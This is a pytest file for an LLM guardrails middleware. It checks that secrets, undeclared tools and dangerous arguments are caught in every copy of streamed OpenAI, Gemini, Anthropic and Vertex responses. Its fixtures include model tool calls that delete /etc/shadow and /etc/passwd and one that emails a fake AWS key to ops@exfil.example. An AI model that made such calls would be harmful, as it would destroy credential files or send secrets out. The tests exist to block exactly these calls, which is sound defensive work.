"""Streamed responses: every copy a client may use is judged, Vertex's streamed function-call arguments are read,
and a tool name still arriving in pieces is not reported mid-stream.

* A stream often says the same thing twice: OpenAI Responses repeats each item in `response.output_item.done`, in
  the `.done` events of its deltas and in `response.completed` (the SDKs' final response); a Gemini Interactions
  `interaction.completed` may carry the steps; an Anthropic `message_start` may carry content (a replay). Only the
  deltas used to be read, so a secret or changed arguments present only in a final copy went unreported (or, for
  Interactions, steps only in the completed interaction were not read at all). Every copy is read now, keeping only
  what it says that the deltas did not; where the copies agree there is one finding, not one per copy.
* Vertex AI's `streamFunctionCallArguments` streams a call as `functionCall` parts with only `partialArgs` after the
  first: they were a 422 ("functionCall name must be a string"), so the middleware forwarded such streams unchecked
  (fail open) or cut every one (fail closed). They are assembled into one call, each value located in its part.
* A Chat stream may send a declared tool's name in pieces (`"get_"`, then `"weather"`): the mid-stream re-check on
  the first piece reported `'get_'` as undeclared, which stops the stream.
"""

from __future__ import annotations

import asyncio
import copy
import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from conftest import REPO, assert_locations_resolve, sample

from guardrails.adapters import read_exchange
from guardrails.client import GuardrailsClient
from guardrails.config import Settings
from guardrails.errors import BodyError
from guardrails.middleware import GuardrailsMiddleware
from guardrails.pointer import resolve
from guardrails.serve import build_app, build_service
from guardrails.service import CheckService

SECRET = "AKIAQ7XK2M4PZ3LJ8VWE"  # an AWS access key id the `secret` detector flags (tests/test_secret.py)


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> CheckService:
    return build_service(Settings(policy_dir=REPO / "policies", data_dir=tmp_path_factory.mktemp("var")))


def check(service: CheckService, body: dict[str, Any]) -> dict[str, Any]:
    """The service's answer; every finding's location resolves in the body sent (offsets inside a string)."""
    result = asyncio.run(service.check(copy.deepcopy(body)))
    for finding in result["findings"]:
        location = finding.get("location") or {}
        if "pointer" not in location:
            continue
        value = resolve(body, location["pointer"])
        if location.get("start") is not None:
            assert isinstance(value, str) and 0 <= location["start"] < location["end"] <= len(value), finding
    return result


def found(result: dict[str, Any], category: str) -> list[tuple[str, str]]:
    """(pointer, evidence tool) of each finding of `category`."""
    return [(f["location"]["pointer"], f.get("evidence", {}).get("tool", "")) for f in result["findings"]
            if f["category"] == category]


def located(body: dict[str, Any], result: dict[str, Any], category: str) -> list[tuple[str, str]]:
    """(pointer, the text the finding covers) of each finding of `category`."""
    out = []
    for f in result["findings"]:
        if f["category"] == category:
            loc = f["location"]
            value = resolve(body, loc["pointer"])
            out.append((loc["pointer"], value[loc["start"]:loc["end"]] if loc.get("start") is not None else value))
    return out


# --- OpenAI Responses: the done items, the `.done` events and response.completed are copies ----------------------
def responses_stream() -> dict[str, Any]:
    """vLLM's Responses stream (samples/): reasoning, a message and a get_weather call, each streamed as deltas and
    repeated in its `.done` events, its `response.output_item.done` and `response.completed`."""
    return copy.deepcopy(sample("openai_responses_stream.json"))


def events(body: dict[str, Any], kind: str) -> Iterator[tuple[int, dict[str, Any]]]:
    return ((k, e) for k, e in enumerate(body["response"]) if e.get("type") == kind)


def test_responses_each_copy_is_read_and_copies_that_agree_add_nothing(service: CheckService) -> None:
    body = responses_stream()
    exchange = read_exchange(body["request"], body["response"])
    response = [s for s in exchange.segments if s.phase.value == "response"]
    # One segment per item, each read from its deltas: the copies repeat them.
    assert [(s.kind.value, s.pointer) for s in response] == [
        ("reasoning", "/response/4/delta"), ("assistant", "/response/26/delta"), ("tool_call", "/response/42/delta")]
    assert_locations_resolve(body, exchange)
    # A secret only in the done item (and the completed response's equal copy): one finding, at the done item.
    (k, done), = [(k, e) for k, e in events(body, "response.output_item.done") if e["item"]["type"] == "message"]
    done["item"]["content"][0]["text"] = f"Here: {SECRET}"
    (c, completed), = events(body, "response.completed")
    completed["response"]["output"][1]["content"][0]["text"] = f"Here: {SECRET}"
    assert located(body, check(service, body), "secret") == [(f"/response/{k}/item/content/0/text", SECRET)]
    # Only in the completed response (the OpenAI SDK's final response): found there.
    done["item"]["content"][0]["text"] = "\n\nLet me check the current conditions in Paris.\n"
    result = check(service, body)
    assert result["verdict"] == "block"
    assert located(body, result, "secret") == [(f"/response/{c}/response/output/1/content/0/text", SECRET)]
    # In the deltas and in every copy: one finding, at the deltas.
    (d, delta), = [(d, e) for d, e in events(body, "response.output_text.delta") if e["delta"] == " Paris"]
    delta["delta"] = f" Paris {SECRET}"
    whole = f"\n\nLet me check the current conditions in Paris {SECRET}.\n"
    for text_holder in (done["item"]["content"][0], completed["response"]["output"][1]["content"][0],
                        *(e["part"] for _, e in events(body, "response.content_part.done"))):
        text_holder["text"] = whole
    for _, event in events(body, "response.output_text.done"):
        event["text"] = whole
    assert located(body, check(service, body), "secret") == [(f"/response/{d}/delta", SECRET)]


def test_responses_changed_arguments_and_name_in_the_final_copies_are_judged(service: CheckService) -> None:
    body = responses_stream()
    (d, args_done), = events(body, "response.function_call_arguments.done")
    args_done["arguments"] = '{"city": "Paris", "path": "/etc/shadow"}'
    (k, done), = [(k, e) for k, e in events(body, "response.output_item.done") if e["item"]["type"] == "function_call"]
    done["item"].update(name="delete_files", arguments='{"path": "/etc/shadow"}')
    (_, completed), = events(body, "response.completed")
    completed["response"]["output"][2].update(name="delete_files", arguments='{"path": "/etc/shadow"}')
    result = check(service, body)
    assert result["verdict"] == "block"
    # The name a delta reader learns (output_item.added) is declared; the done item's is not.
    assert found(result, "tool_undeclared") == [(f"/response/{k}/item/name", "delete_files")]
    assert sorted(located(body, result, "tool_policy")) == [
        (f"/response/{d}/arguments", "/etc/shadow"), (f"/response/{k}/item/arguments", "/etc/shadow")]
    # The deltas' call is still read, from the deltas: nothing in it is reported.
    exchange = read_exchange(body["request"], body["response"])
    calls = [(s.tool_call.name, s.pointer) for s in exchange.segments if s.tool_call is not None]
    assert calls == [("get_weather", "/response/42/delta"), ("get_weather", f"/response/{d}/arguments"),
                     ("delete_files", f"/response/{k}/item/arguments")]
    assert_locations_resolve(body, exchange)


def test_responses_the_reviewers_case_benign_deltas_malicious_done_and_completed(service: CheckService) -> None:
    request = {"model": "m", "input": "hi", "tools": [
        {"type": "function", "name": "get_weather", "parameters": {
            "type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}}]}
    message = {"id": "msg_1", "type": "message", "role": "assistant", "status": "completed",
               "content": [{"type": "output_text", "text": f"Here: {SECRET}", "annotations": []}]}
    call = {"id": "fc_0", "type": "function_call", "call_id": "call_0", "name": "delete_files",
            "arguments": '{"path": "/etc/shadow"}', "status": "completed"}
    chunks = [
        {"type": "response.created", "response": {"id": "r", "object": "response", "created_at": 1, "output": [],
                                                  "status": "in_progress"}},
        {"type": "response.output_item.added", "output_index": 0, "item": {**message, "content": []}},
        {"type": "response.output_text.delta", "item_id": "msg_1", "output_index": 0, "content_index": 0,
         "delta": "All good."},
        {"type": "response.output_item.done", "output_index": 0, "item": message},
        {"type": "response.output_item.added", "output_index": 1,
         "item": {**call, "name": "get_weather", "arguments": ""}},
        {"type": "response.function_call_arguments.delta", "item_id": "fc_0", "output_index": 1,
         "delta": '{"city": "Paris"}'},
        {"type": "response.output_item.done", "output_index": 1, "item": call},
        {"type": "response.completed", "response": {"id": "r", "object": "response", "created_at": 1,
                                                    "status": "completed", "output": [message, call]}},
    ]
    body = {"request": request, "response": chunks}
    result = check(service, body)
    assert result["verdict"] == "block"
    assert located(body, result, "secret") == [("/response/3/item/content/0/text", SECRET)]
    assert found(result, "tool_undeclared") == [("/response/6/item/name", "delete_files")]
    assert located(body, result, "tool_policy") == [("/response/6/item/arguments", "/etc/shadow")]


# --- Gemini Interactions: the steps an interaction.completed carries ------------------------------------------------
def interactions_stream() -> dict[str, Any]:
    return copy.deepcopy(sample("gemini_interactions_stream.json"))


def test_interactions_steps_only_in_the_completed_interaction_are_read(service: CheckService) -> None:
    body = {"request": {"model": "gemini-3.7-flash", "input": "hi"}, "response": [
        {"event_type": "interaction.created", "interaction": {"id": "v1", "status": "in_progress"}},
        {"event_type": "interaction.completed", "interaction": {"id": "v1", "status": "completed", "steps": [
            {"type": "model_output", "content": [{"type": "text", "text": f"key {SECRET}"}]}]}}]}
    result = check(service, body)
    assert result["verdict"] == "block"
    assert located(body, result, "secret") == [("/response/1/interaction/steps/0/content/0/text", SECRET)]


def test_interactions_completed_steps_that_repeat_the_stream_add_nothing(service: CheckService) -> None:
    body = interactions_stream()
    streamed = read_exchange(body["request"], body["response"])
    completed = body["response"][-1]["interaction"]
    completed["steps"] = [
        {"type": "thought", "signature": "EqQC", "summary": [
            {"type": "text", "text": "The user confirmed economy on 2026-09-18 "},
            {"type": "text", "text": "from Berlin to Lisbon. I should search flights BER to LIS."}]},
        {"type": "function_call", "id": "fc_7m3x1", "name": "search_flights", "arguments": {
            "origin": "BER", "destination": "LIS", "date": "2026-09-18", "cabin": "economy"}}]
    again = read_exchange(body["request"], body["response"])
    assert again.segments == streamed.segments
    # A call the stream did not make: read from the completed interaction, where it is.
    completed["steps"].append({"type": "function_call", "id": "fc_2", "name": "delete_files",
                               "arguments": {"path": "/etc/passwd"}})
    result = check(service, body)
    k = len(body["response"]) - 1
    assert found(result, "tool_undeclared") == [(f"/response/{k}/interaction/steps/2/name", "delete_files")]
    assert located(body, result, "tool_policy") == [(f"/response/{k}/interaction/steps/2/arguments/path",
                                                     "/etc/passwd")]


# --- Anthropic: message_start content (a replay) ---------------------------------------------------------------------
def test_anthropic_message_start_content_is_read_once(service: CheckService) -> None:
    request = {"model": "m", "max_tokens": 64, "messages": [{"role": "user", "content": "hi"}]}
    start = {"type": "message_start", "message": {"id": "msg_1", "type": "message", "role": "assistant", "model": "m",
                                                  "content": [{"type": "text", "text": f"key {SECRET}"}]}}
    body = {"request": request, "response": [start, {"type": "message_stop"}]}
    assert located(body, check(service, body), "secret") == [("/response/0/message/content/0/text", SECRET)]
    # The same text streamed as a block too: one finding, at the block.
    body["response"][1:1] = [
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": f"key {SECRET}"}},
        {"type": "content_block_stop", "index": 0}]
    assert located(body, check(service, body), "secret") == [("/response/2/delta/text", SECRET)]


# --- Vertex AI streamed function-call arguments ----------------------------------------------------------------------
VERTEX_REQUEST = {
    "contents": [{"role": "user", "parts": [{"text": "Mail the report to ops."}]}],
    "tools": [{"functionDeclarations": [{"name": "send_email", "parametersJsonSchema": {
        "type": "object", "properties": {"to": {"type": "string"}, "body": {"type": "string"},
                                         "priority": {"type": "integer"}, "urgent": {"type": "boolean"},
                                         "cc": {"type": "array", "items": {"type": "object", "properties": {
                                             "address": {"type": "string"}}}},
                                         "meta": {"type": "object"}},
        "required": ["to", "body"], "additionalProperties": False}}]}],
    "toolConfig": {"functionCallingConfig": {"mode": "AUTO", "streamFunctionCallArguments": True}},
}


def vertex_chunk(**call: Any) -> dict[str, Any]:
    return {"candidates": [{"content": {"role": "model", "parts": [{"functionCall": call}]}, "index": 0}],
            "modelVersion": "gemini-3-pro-preview"}


def vertex_stream(*partial_args: list[dict[str, Any]], end: bool = True) -> list[dict[str, Any]]:
    """A call as Vertex streams it: the name, one part per `partialArgs` list, then the empty part that ends it."""
    chunks = [vertex_chunk(name="send_email", willContinue=True)]
    chunks += [vertex_chunk(partialArgs=args, willContinue=True) for args in partial_args]
    if end:
        chunks += [vertex_chunk(), {"candidates": [{"content": {"role": "model", "parts": []}, "finishReason": "STOP",
                                                    "index": 0}], "modelVersion": "gemini-3-pro-preview"}]
    return chunks


def test_vertex_partial_args_are_assembled_into_one_call() -> None:
    chunks = vertex_stream(
        [{"jsonPath": "$.to", "stringValue": "ops@", "willContinue": True}],
        [{"jsonPath": "$.to", "stringValue": "example.com"}, {"jsonPath": "$.priority", "numberValue": 2}],
        [{"jsonPath": "$.cc[0].address", "stringValue": "a@example.com"},
         {"jsonPath": "$.cc[1].address", "stringValue": "b@example.com"},
         {"jsonPath": "$['meta'].tag", "stringValue": "q3"}, {"jsonPath": "$.urgent", "boolValue": False},
         {"jsonPath": "$.body", "stringValue": 'Say "hi" \u00e9'}])
    exchange = read_exchange(VERTEX_REQUEST, chunks)
    (call,) = [s.tool_call for s in exchange.segments if s.tool_call is not None]
    assert call.name == "send_email" and call.arguments_error is None
    assert call.arguments == {"to": "ops@example.com", "priority": 2, "cc": [{"address": "a@example.com"},
                              {"address": "b@example.com"}], "meta": {"tag": "q3"}, "urgent": False,
                              "body": 'Say "hi" \u00e9'}
    assert call.name_pointer == "/response/0/candidates/0/content/parts/0/functionCall/name"
    assert exchange.generation.finish_reason == "tool_calls"
    # Calls sent whole are read as before, streamed or not.
    args = {"to": "ops@example.com", "body": "hi"}
    whole = {"candidates": [{"content": {"role": "model", "parts": [{"functionCall": {"name": "send_email",
                                                                                      "args": args}}]}}]}
    for response in (whole, [whole]):
        exchange = read_exchange(VERTEX_REQUEST, response)
        (segment,) = [s for s in exchange.segments if s.tool_call is not None]
        assert segment.tool_call is not None and segment.tool_call.arguments == args
        assert segment.tool_call.arguments_is_object
    # A functionCall without a name, outside a streamed call, is still refused.
    with pytest.raises(BodyError, match="functionCall name must be a string"):
        read_exchange(VERTEX_REQUEST, [vertex_chunk(args={"to": "x"})])


def test_vertex_the_reviewers_stream_is_checked_not_refused(service: CheckService) -> None:
    chunks = vertex_stream([{"jsonPath": "$.to", "stringValue": "ops@exfil.example"}],
                           [{"jsonPath": "$.body", "stringValue": f"key {SECRET[:10]}", "willContinue": True}],
                           [{"jsonPath": "$.body", "stringValue": f"{SECRET[10:]} attached"}])
    body = {"request": VERTEX_REQUEST, "response": chunks}
    result = check(service, body)
    assert result["verdict"] == "block"
    # The key runs over two parts: located in the part where it starts, its end clipped to that string.
    assert located(body, result, "secret") == [
        ("/response/2/candidates/0/content/parts/0/functionCall/partialArgs/0/stringValue", SECRET[:10])]


def test_vertex_findings_point_at_the_part_that_carried_each_value(service: CheckService) -> None:
    chunks = vertex_stream([{"jsonPath": "$.to", "stringValue": "ops@example.com"},
                            {"jsonPath": "$.priority", "numberValue": 2.5}],
                           [{"jsonPath": "$.urgent", "nullValue": "NULL_VALUE"},
                            {"jsonPath": "$.extra", "stringValue": ""}])
    body = {"request": VERTEX_REQUEST, "response": chunks}
    result = check(service, body)
    part = "/response/{}/candidates/0/content/parts/0/functionCall"
    schema = {(f["location"]["pointer"], f["location"].get("start")) for f in result["findings"]
              if f["category"] == "tool_schema"}
    assert schema == {
        (part.format(0), None),  # 'body' is missing: the call as a whole, at its first part
        (part.format(1) + "/partialArgs/1/numberValue", None),  # 2.5 is not an integer: the value itself
        (part.format(2) + "/partialArgs/0/nullValue", None),  # null is not a boolean
        (part.format(2) + "/partialArgs/1/stringValue", None),  # an unexpected argument, an empty string
    }


def test_vertex_a_call_to_an_undeclared_tool_with_a_dangerous_path(service: CheckService) -> None:
    chunks = [vertex_chunk(name="delete_files", willContinue=True),
              vertex_chunk(partialArgs=[{"jsonPath": "$.path", "stringValue": "/etc/", "willContinue": True}],
                           willContinue=True),
              vertex_chunk(partialArgs=[{"jsonPath": "$.path", "stringValue": "passwd"}], willContinue=False)]
    body = {"request": VERTEX_REQUEST, "response": chunks}
    result = check(service, body)
    assert found(result, "tool_undeclared") == [
        ("/response/0/candidates/0/content/parts/0/functionCall/name", "delete_files")]
    assert located(body, result, "tool_policy") == [
        ("/response/1/candidates/0/content/parts/0/functionCall/partialArgs/0/stringValue", "/etc/")]


def test_vertex_a_call_still_arriving_gets_no_schema_finding_mid_stream(service: CheckService) -> None:
    chunks = vertex_stream([{"jsonPath": "$.to", "stringValue": "ops"}], end=False)
    body = {"request": VERTEX_REQUEST, "response": chunks, "partial": True}
    assert check(service, body)["verdict"] == "allow"  # 'body' has not arrived yet
    # A stream that ends there was cut: its final check says the arguments are not complete.
    result = check(service, {"request": VERTEX_REQUEST, "response": chunks})
    assert [f["message"] for f in result["findings"]] == ["arguments of 'send_email' are not valid JSON"]
    assert "not complete" in result["findings"][0]["evidence"]["error"]
    # Once a part ends the call, its arguments are judged whole, mid-stream too.
    chunks.append(vertex_chunk())
    assert found(check(service, body), "tool_schema") == [
        ("/response/0/candidates/0/content/parts/0/functionCall", "send_email")]


@pytest.mark.parametrize(("partial_args", "pointer", "message"), [
    ([{"jsonPath": "to", "stringValue": "x"}], "partialArgs/0/jsonPath", "must start with '$'"),
    ([{"jsonPath": "$", "stringValue": "x"}], "partialArgs/0/jsonPath", "must name an argument"),
    ([{"jsonPath": "$.a..b", "stringValue": "x"}], "partialArgs/0/jsonPath", "not a path to one argument"),
    ([{"jsonPath": "$.to", "stringValue": "x"}, {"jsonPath": "$.to.x", "stringValue": "y"}],
     "partialArgs/1/jsonPath", "a key in a value that is not an object"),
    ([{"jsonPath": "$.cc[1]", "stringValue": "x"}], "partialArgs/0/jsonPath", "an array index past the end"),
    ([{"jsonPath": "$.to", "stringValue": 3}], "partialArgs/0/stringValue", "must be a string"),
    ([{"jsonPath": "$.priority", "numberValue": "2"}], "partialArgs/0/numberValue", "must be a number"),
    ([{"jsonPath": 7, "stringValue": "x"}], "partialArgs/0/jsonPath", "jsonPath must be a string"),
    ([{"jsonPath": "$.*", "stringValue": "x"}], "partialArgs/0/jsonPath", "not a path to one argument"),
    ([{"jsonPath": "$.to ", "stringValue": "x"}], "partialArgs/0/jsonPath", "not a path to one argument"),
])
def test_vertex_partial_args_that_are_not_arguments_are_refused(partial_args: list[Any], pointer: str,
                                                                message: str) -> None:
    with pytest.raises(BodyError) as err:
        read_exchange(VERTEX_REQUEST, vertex_stream(partial_args))
    assert err.value.pointer == f"/response/1/candidates/0/content/parts/0/functionCall/{pointer}"
    assert message in err.value.message


# --- a Chat tool name streamed in pieces -----------------------------------------------------------------------------
CHAT_REQUEST = {"model": "m", "messages": [{"role": "user", "content": "Weather in Paris?"}], "tools": [
    {"type": "function", "function": {"name": "get_weather", "parameters": {
        "type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}}}]}


def chat_chunk(**call: Any) -> dict[str, Any]:
    return {"id": "c", "object": "chat.completion.chunk", "model": "m",
            "choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, **call}]}, "finish_reason": None}]}


def test_chat_a_declared_name_arriving_in_pieces_is_not_undeclared_mid_stream(service: CheckService) -> None:
    first = chat_chunk(id="c0", type="function", function={"name": "get_"})
    body = {"request": CHAT_REQUEST, "response": [first], "partial": True}
    assert check(service, body)["verdict"] == "allow"
    # A piece that no declared name starts with is reported at once.
    other = chat_chunk(id="c0", type="function", function={"name": "delete_"})
    result = check(service, {**body, "response": [other]})
    assert found(result, "tool_undeclared") == [
        ("/response/0/choices/0/delta/tool_calls/0/function/name", "delete_")]
    # The final check judges the name the stream ends with.
    assert found(check(service, {"request": CHAT_REQUEST, "response": [first]}), "tool_undeclared") == [
        ("/response/0/choices/0/delta/tool_calls/0/function/name", "get_")]
    whole = [first, chat_chunk(function={"name": "weather"}), chat_chunk(function={"arguments": '{"city": "Paris"}'})]
    assert check(service, {"request": CHAT_REQUEST, "response": whole})["verdict"] == "allow"


# --- through the middleware ------------------------------------------------------------------------------------------
class Upstream:
    """Answers every call with the given SSE events."""

    def __init__(self, events: list[dict[str, Any]], done: bool = False) -> None:
        self.body = b"".join(b"data: " + json.dumps(e).encode() + b"\r\n\r\n" for e in events)
        self.body += b"data: [DONE]\r\n\r\n" if done else b""

    async def __call__(self, scope: dict[str, Any], receive: Any, send: Any) -> None:
        while (await receive()).get("more_body"):
            pass
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"text/event-stream")]})
        await send({"type": "http.response.body", "body": self.body})


@pytest.fixture(scope="module")
def service_app(tmp_path_factory: pytest.TempPathFactory) -> Any:
    return build_app(Settings(policy_dir=REPO / "policies", data_dir=tmp_path_factory.mktemp("mw")))


def through_middleware(service_app: Any, upstream: Upstream, path: str, request: dict[str, Any],
                       fail_mode: str) -> httpx.Response:
    async def run() -> httpx.Response:
        client = GuardrailsClient("http://guardrails", transport=httpx.ASGITransport(app=service_app),
                                  fail_mode=fail_mode)
        app = GuardrailsMiddleware(upstream, client=client)
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://gw") as http:
            return await http.post(path, content=json.dumps(request).encode(),
                                   headers={"content-type": "application/json"})

    return asyncio.run(run())


VERTEX_PATH = "/v1/projects/p/locations/us-central1/publishers/google/models/gemini-3-pro-preview:streamGenerateContent"


@pytest.mark.parametrize("fail_mode", ["open", "closed"])
def test_middleware_vertex_streamed_arguments_are_checked(service_app: Any, fail_mode: str) -> None:
    benign = Upstream(vertex_stream([{"jsonPath": "$.to", "stringValue": "ops@example.com"}],
                                    [{"jsonPath": "$.body", "stringValue": "The Q3 report is attached."}]))
    answer = through_middleware(service_app, benign, f"{VERTEX_PATH}?alt=sse", VERTEX_REQUEST, fail_mode)
    assert answer.status_code == 200 and answer.content == benign.body  # forwarded whole, not cut
    leaking = Upstream(vertex_stream([{"jsonPath": "$.to", "stringValue": "ops@exfil.example"}],
                                     [{"jsonPath": "$.body", "stringValue": f"key {SECRET}"}]))
    answer = through_middleware(service_app, leaking, f"{VERTEX_PATH}?alt=sse", VERTEX_REQUEST, fail_mode)
    assert SECRET not in answer.text  # stopped by the check, not forwarded unchecked


def test_middleware_a_chat_name_in_pieces_is_forwarded_whole(service_app: Any) -> None:
    chunks = [chat_chunk(id="c0", type="function", function={"name": "get_"}),
              chat_chunk(function={"name": "weather"}), chat_chunk(function={"arguments": '{"city": "Paris"}'}),
              {"id": "c", "object": "chat.completion.chunk", "model": "m",
               "choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}]
    upstream = Upstream(chunks, done=True)
    answer = through_middleware(service_app, upstream, "/v1/chat/completions", {**CHAT_REQUEST, "stream": True},
                                "closed")
    assert answer.status_code == 200 and answer.content == upstream.body


def test_chat_a_name_arriving_in_pieces_is_judged_by_no_name_check_mid_stream() -> None:
    """tool_choice and an agent's allow list judge a whole name too: the start of a declared one waits."""
    from detectors.tool_policy import ToolPolicyDetector
    from detectors.tool_schema import ToolSchemaDetector
    from guardrails.detector import ScanContext
    from guardrails.exchange import CallerContext

    request = {**CHAT_REQUEST, "tool_choice": {"type": "function", "function": {"name": "get_weather"}}}
    first = chat_chunk(id="c0", type="function", function={"name": "get_"})
    schema = ToolSchemaDetector()
    policy = ToolPolicyDetector({"agents": {"bot": {"allow_tools": ["get_weather"]}}})

    def rules(partial: bool) -> list[str]:
        exchange = read_exchange(request, [first], partial=partial, context=CallerContext(agent_id="bot"))
        out = []
        for detector in (schema, policy):
            segments = [s for s in exchange.segments if detector.default_scope.matches(s)]
            found = asyncio.run(detector.scan(exchange, ScanContext(segments=segments, signals={})))
            out += [f.evidence.get("rule") or f"tool_choice {f.evidence.get('tool_choice')}" for f in found]
        return out

    assert rules(partial=True) == []
    assert sorted(rules(partial=False)) == ["agent.allow_tools", "tool_choice ['get_weather']"]


def test_middleware_a_responses_item_sent_only_whole_is_checked_before_it_is_forwarded(service_app: Any) -> None:
    """An `output_item.done` whose text no delta streamed reaches the client only after a check: a block stops the
    stream before that event, not at `response.completed` after the client has read it."""
    request = {"model": "m", "input": "hi", "stream": True}
    message = {"id": "msg_1", "type": "message", "role": "assistant", "status": "completed",
               "content": [{"type": "output_text", "text": f"Here: {SECRET}", "annotations": []}]}
    created = {"id": "r", "object": "response", "created_at": 1, "output": [], "status": "in_progress"}
    chunks = [{"type": "response.created", "response": created},
              {"type": "response.output_item.added", "output_index": 0, "item": {**message, "content": []}},
              {"type": "response.output_item.done", "output_index": 0, "item": message},
              {"type": "response.created", "response": created}]  # a later event: the stream goes on
    answer = through_middleware(service_app, Upstream(chunks), "/v1/responses", request, "closed")
    assert SECRET not in answer.text
    assert '"response.output_item.added"' in answer.text  # forwarded up to the item's copy, stopped there


def test_vertex_a_number_the_edge_read_as_null_is_judged_as_null(service: CheckService) -> None:
    """`numberValue: NaN` (or 1e400) arrives as null from the edge: the value is null, not "none sent yet" (the
    argument was dropped and the call allowed, where the same value in a whole call is a schema finding)."""
    stream = vertex_stream([{"jsonPath": "$.to", "stringValue": "ops@example.com"}],
                           [{"jsonPath": "$.body", "stringValue": "Q3"}],
                           [{"jsonPath": "$.priority", "numberValue": None}])
    result = check(service, {"request": VERTEX_REQUEST, "response": stream})
    [finding] = [f for f in result["findings"] if f["category"] == "tool_schema"]
    assert "None is not of type 'integer'" in finding["message"]
